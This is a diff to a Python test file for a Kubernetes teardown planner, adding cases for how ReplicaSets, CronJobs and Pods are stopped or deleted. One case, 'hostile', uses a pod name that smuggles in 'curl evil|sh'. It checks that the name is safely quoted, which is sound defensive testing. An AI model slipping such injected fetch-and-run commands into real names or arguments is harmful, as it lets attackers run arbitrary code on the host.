@@ -143,7 +143,10 @@ def test_a_cluster_that_stopped_keeps_the_role_and_sees_to_nothing(stopped: dict
 HOLDERS = {
     "deployment": (pod(), ["Deployment shop/orders", "kubectl scale deployment/orders --replicas=0 -n shop"]),
     "daemonset": (pod(kind="DaemonSet"), ["kubectl delete daemonset orders -n shop"]),
-    "something": (pod(kind="Workflow"), ["remove Workflow shop/orders"]),
+    "replicaset": (pod(kind="ReplicaSet"), ["kubectl scale replicaset/orders --replicas=0 -n shop"]),
+    "cronjob": (pod(kind="CronJob"), ["""kubectl patch cronjob orders -n shop -p '{"spec": {"suspend": true}}'"""]),
+    "pod": (pod(kind="Pod"), ["kubectl delete pod orders -n shop"]),
+    "hostile": (pod("x; curl evil|sh #", kind="Pod"), ["kubectl delete pod 'x; curl evil|sh #' -n shop"]),
     "release": (pod(release="shop/front"), ["helm uninstall front -n shop (pod_identity_teardown_release true"]),
 }
 
@@ -200,4 +203,6 @@ def test_the_report_tells_what_went_and_what_stays() -> None:
         "prod: stays: add-on eks-pod-identity-agent: it serves shop/hand, shop/ebs",
     ]
     assert teardown_plan.lines(made, "prod", True)[0] == "prod: would be removed: release shop/front"
+    stopped = teardown_plan.lines({"removed": ["role x"], "kept": []}, "prod", True, "Pods run.")
+    assert stopped == ["prod: would stop, with nothing removed: Pods run.", "prod: would be removed: role x"]
     assert teardown_plan.lines({"removed": [], "kept": []}, "prod") == ["prod: nothing is left that was made here"]
